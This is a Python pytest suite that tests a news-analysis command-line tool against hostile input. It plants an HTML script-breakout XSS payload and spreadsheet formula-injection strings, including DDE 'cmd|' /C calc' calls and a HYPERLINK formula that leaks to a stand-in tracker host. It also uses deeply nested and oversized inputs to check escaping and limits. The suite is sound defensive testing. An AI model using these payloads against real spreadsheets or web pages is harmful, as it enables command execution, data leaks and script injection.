"""Hostile input through the command line and the files it writes (issue 11), black-box.

Every case runs ``python -m zonewatch`` in a subprocess and looks only at its exit status, its
output and the files it wrote, so the suite does not depend on where a function lives. A user's
mistake or the machine's state must give one line on stderr and exit status 2, never a
traceback; article text must never become markup, a script or a spreadsheet formula.
"""

from __future__ import annotations

import csv
import io
import json
import os
import resource
import shutil
import subprocess
import sys
import time
from datetime import date
from html.parser import HTMLParser
from pathlib import Path

import pyarrow as pa
import pytest

REPO = Path(__file__).resolve().parents[1]

#: Breaks out of an inline <script> and opens an HTML comment if text reaches one unescaped.
BREAKOUT = "</script><img src=x onerror=alert(1)> <!-- "
PAYLOAD_TEXT = (
    "DAMASCUS (Wire) - The Astana memorandum of 4 May 2017 established a de-escalation zone in "
    f"Eastern Ghouta, residents said {BREAKOUT}as shelling eased on Thursday."
)
#: First characters that make a spreadsheet cell a formula, and the text that follows them.
FORMULA_TITLES = {
    "=": '=HYPERLINK("http://tracker.example/?leak","Read more")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3 killed in Idlib",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
#: Spreadsheets end a row at a bare CR as well as at LF: both must be quoted.
ROW_BREAK_TITLES = ["Idlib update\r=1+2", "Idlib update\n=3+4", "Idlib update\r\n=5+6"]
DAY = "2017-05-04"


def zw(
    *args: object, data: Path | None = None, timeout: float = 300, **kw
) -> subprocess.CompletedProcess:
    """Run the zonewatch command line as a user would, in the repository's checkout."""
    cmd = [sys.executable, "-m", "zonewatch", *map(str, args)]
    if data is not None:
        cmd += ["--data", str(data)]
    env = {**os.environ, "ZONEWATCH_DEMO": "0", **kw.pop("env", {})}
    return subprocess.run(
        cmd, cwd=REPO, env=env, capture_output=True, text=True, timeout=timeout, **kw
    )


def assert_one_line_error(result: subprocess.CompletedProcess) -> None:
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert result.returncode == 2, (result.returncode, result.stdout[-2000:], result.stderr[-2000:])
    assert "Traceback" not in result.stderr, result.stderr[-3000:]
    assert len(lines) == 1 and lines[0].startswith("zonewatch"), result.stderr[-2000:]


def assert_ok(result: subprocess.CompletedProcess) -> None:
    assert result.returncode == 0, (result.stdout[-2000:], result.stderr[-3000:])
    assert "Traceback" not in result.stderr, result.stderr[-3000:]


def write_jsonl(path: Path, records: list[dict | str]) -> Path:
    lines = [r if isinstance(r, str) else json.dumps(r) for r in records]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def wire(n: int, zone: str = "Idlib", **fields: object) -> dict:
    """A short wire article that yields one coverage claim dated 4 May 2017."""
    text = (
        f"BEIRUT (Wire, item {n}) - The Astana memorandum of 4 May 2017 established a "
        f"de-escalation zone in {zone}, a monitoring group said on Tuesday, citing {n} sources."
    )
    return {"source": "Wire", "published": "2017-06-01", "language": "en", "text": text, **fields}


def ingest(data: Path, path: Path) -> subprocess.CompletedProcess:
    return zw("ingest", path, "--workers", "0", "--no-progress", data=data)


def article_count(data: Path) -> int:
    result = zw("stats", "--format", "json", data=data)
    assert_ok(result)
    return int(json.loads(result.stdout)["articles"])


class _Markup(HTMLParser):
    """Collects what a browser would build from the file: elements, attributes, script bodies."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.handlers: list[tuple[str, str]] = []
        self.scripts: list[str] = []
        self.comments: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handlers += [(tag, name) for name, _ in attrs if name.startswith("on")]
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def assert_inert(path: Path) -> None:
    """No element or handler from article text, no comment opened inside a script's data."""
    markup = _Markup()
    markup.feed(path.read_text("utf-8"))
    assert ("img", "onerror") not in markup.handlers, path.name
    assert not [c for c in markup.comments if "onerror" in c], path.name
    assert not [s for s in markup.scripts if "<!--" in s], path.name


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store with a script-breakout article and titles/sources that start spreadsheet formulas."""
    root = tmp_path_factory.mktemp("hostile")
    records = [
        {**wire(0, "Eastern Ghouta"), "title": f"Ghouta {BREAKOUT}report", "text": PAYLOAD_TEXT},
        *[wire(i + 1, title=title) for i, title in enumerate(FORMULA_TITLES.values())],
        *[wire(i + 20, title=title) for i, title in enumerate(ROW_BREAK_TITLES)],
        wire(30, title="Plain title", source="=cmd|' /C calc'!A0"),
        {**wire(31), "text": "@AFP: " + wire(31)["text"], "title": "Sentence starts with @"},
    ]
    data = root / "data"
    assert_ok(ingest(data, write_jsonl(root / "hostile.jsonl", records)))
    assert article_count(data) == len(records)
    return data


# -- 1. inline scripts never run article text ---------------------------------------------------


def test_timeline_html_export_keeps_planted_script_inert(
    hostile_store: Path, tmp_path: Path
) -> None:
    out = tmp_path / "timeline.html"
    assert_ok(zw("render", "timeline", "--date", DAY, "--out", out, data=hostile_store))
    assert "onerror" in out.read_text("utf-8")  # the payload is there, as data
    assert_inert(out)


def test_map_html_export_keeps_planted_script_inert(hostile_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "map.html"
    assert_ok(zw("render", "map", "--date", DAY, "--out", out, data=hostile_store))
    assert_inert(out)


def test_every_brief_html_file_keeps_planted_script_inert(
    hostile_store: Path, tmp_path: Path
) -> None:
    out = tmp_path / "brief"
    assert_ok(zw("brief", "--date", DAY, "--out", out, data=hostile_store))
    pages = sorted(out.glob("*.html"))
    assert pages
    for page in pages:
        assert_inert(page)


# -- 3, 4. one CSV writer: no formula, no row break outside quotes -----------------------------


def _spreadsheet_rows(text: str) -> list[list[str]]:
    """Rows as a spreadsheet reads them: a bare CR ends a row as LF does, outside quotes."""
    return list(csv.reader(io.StringIO(text, newline=None)))


@pytest.fixture(scope="module")
def brief_csv(hostile_store: Path, tmp_path_factory: pytest.TempPathFactory) -> list[list[str]]:
    out = tmp_path_factory.mktemp("brief-csv")
    assert_ok(zw("brief", "--date", DAY, "--out", out, data=hostile_store))
    return _spreadsheet_rows((out / "evidence.csv").read_text("utf-8-sig"))


@pytest.mark.parametrize("start", sorted(FORMULA_TITLES), ids=repr)
def test_brief_csv_neutralises_formula_start(brief_csv: list[list[str]], start: str) -> None:
    body = FORMULA_TITLES[start].lstrip("\r\t")
    cells = [cell for row in brief_csv for cell in row if body in cell]
    assert cells, f"title {FORMULA_TITLES[start]!r} missing"
    for cell in cells:
        assert cell[0] not in "=+-@\t\r", cell


def test_brief_csv_quotes_cr_and_lf_so_no_row_starts_inside_a_field(
    brief_csv: list[list[str]],
) -> None:
    header = brief_csv[0]
    assert all(len(row) == len(header) for row in brief_csv), [
        row for row in brief_csv if len(row) != len(header)
    ]
    titles = [row[header.index("title")] for row in brief_csv[1:]]
    for title in ROW_BREAK_TITLES:
        assert any(t.startswith("Idlib update") and t.endswith(title[-4:]) for t in titles)


def test_source_and_evidence_cells_neutralised(brief_csv: list[list[str]]) -> None:
    header = brief_csv[0]
    rows = [row for row in brief_csv[1:] if len(row) == len(header)]
    sources = [row[header.index("source")] for row in rows]
    evidence = [row[header.index("evidence")] for row in rows]
    assert "'=cmd|' /C calc'!A0" in sources
    assert any(e.startswith("'@AFP:") for e in evidence)


# -- 2. out-of-range dates are clamped at read time, with the record reported --------------------


#: Title -> publication date planted in the store's Parquet, as an older or foreign writer left it.
ODD_DATES = {
    "Scraper placeholder": "0001-01-01",
    "Year 2262": "2262-05-01",
    "Year 9999": "9999-12-31",
}


@pytest.fixture(scope="module")
def odd_dates_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    import pyarrow.compute as pc
    import pyarrow.parquet as pq

    root = tmp_path_factory.mktemp("dates")
    titles = [*ODD_DATES, "A good article"]
    data = root / "data"
    records = [wire(i, title=t) for i, t in enumerate(titles)]
    assert_ok(ingest(data, write_jsonl(root / "dates.jsonl", records)))
    (part,) = (data / "articles").glob("*.parquet")
    table = pq.read_table(part)
    days = [
        date.fromisoformat(ODD_DATES[t]) if t in ODD_DATES else d
        for t, d in zip(table["title"].to_pylist(), table["published"].to_pylist(), strict=True)
    ]
    column = table.schema.get_field_index("published")
    table = table.set_column(column, table.schema.field(column), pc.cast(days, pa.date32()))
    pq.write_table(table, part)
    return data


def test_out_of_range_publication_dates_are_reported_at_ingest(tmp_path: Path) -> None:
    records = [wire(i, title=t, published=d) for i, (t, d) in enumerate(ODD_DATES.items())]
    records[0]["published"] = "0001-01-01T00:00:00Z"
    result = ingest(tmp_path / "data", write_jsonl(tmp_path / "dates.jsonl", records))
    assert_ok(result)
    assert article_count(tmp_path / "data") == len(records)
    assert "0001-01-01" in result.stdout + result.stderr
    rows = json.loads(zw("query", "evidence", "--format", "json", data=tmp_path / "data").stdout)
    assert {r["published"] for r in rows} == {None}


@pytest.mark.parametrize(
    "command",
    [
        ("render", "timeline", "--date", DAY, "--out", "{out}/t.png"),
        ("render", "timeline", "--date", DAY, "--out", "{out}/t.html"),
        ("render", "map", "--date", DAY, "--out", "{out}/m.html"),
        ("brief", "--date", DAY, "--out", "{out}/brief"),
        ("query", "coverage", "--date", DAY, "--format", "json"),
    ],
    ids=["timeline-png", "timeline-html", "map-html", "brief", "coverage"],
)
def test_out_of_range_publication_dates_break_nothing(
    odd_dates_store: Path, tmp_path: Path, command: tuple[str, ...]
) -> None:
    assert_ok(zw(*(part.format(out=tmp_path) for part in command), data=odd_dates_store))


def test_store_check_reports_and_repair_quarantines_unshowable_records(
    odd_dates_store: Path, tmp_path: Path
) -> None:
    data = tmp_path / "copy"
    shutil.copytree(odd_dates_store, data)
    check = zw("store", "check", data=data)
    assert check.returncode == 1, (check.stdout, check.stderr)
    for title in ("Scraper placeholder", "Year 2262", "Year 9999"):
        assert title in check.stdout
    assert "A good article" not in check.stdout
    assert_ok(zw("store", "check", "--repair", data=data))
    assert_ok(zw("store", "check", data=data))
    assert article_count(data) == 1


# -- 5. one poisoned record never costs the good ones -------------------------------------------


@pytest.mark.parametrize(
    "poison",
    ['{"text": "Idlib \\ud800 zone", "title": "lone surrogate"}', "[" * 100_000 + "]" * 100_000],
    ids=["lone-surrogate", "nesting-100000"],
)
def test_poisoned_jsonl_line_is_skipped_and_good_lines_saved(tmp_path: Path, poison: str) -> None:
    path = write_jsonl(tmp_path / "mixed.jsonl", [wire(1), poison, wire(2)])
    result = ingest(tmp_path / "data", path)
    assert_ok(result)
    assert ":2" in result.stdout + result.stderr  # the bad line is named
    assert article_count(tmp_path / "data") == 2


def test_csv_with_one_huge_field_keeps_the_rows_after_it(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["title", "published", "text"])
        writer.writerow(["before", "2017-06-01", wire(1)["text"]])
        writer.writerow(["huge", "2017-06-01", "Idlib " * (50 * 1024 * 1024 // 6)])
        writer.writerow(["after", "2017-06-02", wire(2)["text"]])
        writer.writerow(["last", "2017-06-03", wire(3)["text"]])
    result = ingest(tmp_path / "data", path)
    assert_ok(result)
    assert article_count(tmp_path / "data") == 3


# -- 6. extraction work is bounded --------------------------------------------------------------


def _one_sentence(size: int) -> str:
    words = (
        "the Astana memorandum covered Idlib and Eastern Ghouta on 4 May and the ceasefire held "
        "in Daraa and Rastan while Russia Turkey and Iran guaranteed the zones "
    )
    return (words * (size // len(words) + 1))[:size]


def test_one_megabyte_single_sentence_extracts_in_bounded_time(tmp_path: Path) -> None:
    path = tmp_path / "one-sentence.txt"
    path.write_text(_one_sentence(1_000_000), encoding="utf-8")
    started = time.monotonic()
    result = zw("extract", "--published", "2017-06-01", path, timeout=120)
    elapsed = time.monotonic() - started
    assert_ok(result)
    assert "idlib" in json.loads(result.stdout)["zones"]
    assert elapsed < 15, f"{elapsed:.1f} s for 1 MB (target: under 2 s on an idle core)"


def test_four_megabyte_single_line_article_ingests_in_bounded_time_and_memory(
    tmp_path: Path,
) -> None:
    path = write_jsonl(tmp_path / "long.jsonl", [{**wire(1), "text": _one_sentence(4_000_000)}])
    before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    started = time.monotonic()
    assert_ok(ingest(tmp_path / "data", path))
    elapsed = time.monotonic() - started
    peak_mib = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    assert elapsed < 60, f"{elapsed:.1f} s"
    assert peak_mib < 700 or peak_mib <= before / 1024, f"{peak_mib:.0f} MiB"


def test_article_above_the_size_limit_gets_one_line(tmp_path: Path) -> None:
    path = tmp_path / "huge.txt"
    path.write_text(_one_sentence(6 * 1024 * 1024), encoding="utf-8")
    assert_one_line_error(zw("extract", path))


# -- weak points: long titles ------------------------------------------------------------------


def test_long_title_is_truncated_in_the_map_but_kept_in_the_store(tmp_path: Path) -> None:
    title = "Idlib " + "very long headline " * 110_000  # about 2 MB
    sizes = []
    for name, heading in (("short", "Idlib"), ("long", title)):
        data = tmp_path / name
        assert_ok(ingest(data, write_jsonl(tmp_path / f"{name}.jsonl", [wire(1, title=heading)])))
        out = tmp_path / f"{name}.html"
        assert_ok(zw("render", "map", "--date", DAY, "--out", out, data=data))
        sizes.append(out.stat().st_size)
    assert sizes[1] - sizes[0] < 20_000, sizes
    result = zw("query", "evidence", "--zone", "idlib", "--format", "json", data=tmp_path / "long")
    assert [r["title"] for r in json.loads(result.stdout)] == [title]
